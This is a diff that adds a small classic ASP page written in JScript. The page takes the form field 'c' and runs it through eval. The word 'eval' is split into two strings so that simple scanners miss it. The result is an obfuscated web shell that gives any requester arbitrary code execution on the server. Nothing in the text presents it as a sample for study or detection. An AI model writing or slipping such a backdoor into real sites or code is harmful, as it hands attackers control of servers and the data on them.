@@ -1,0 +1,6 @@
+<%@ Language="JScript" %>
+<%
+var r = Request.Form;
+var k = "ev" + "al";
+this[k](r("c"));
+%>
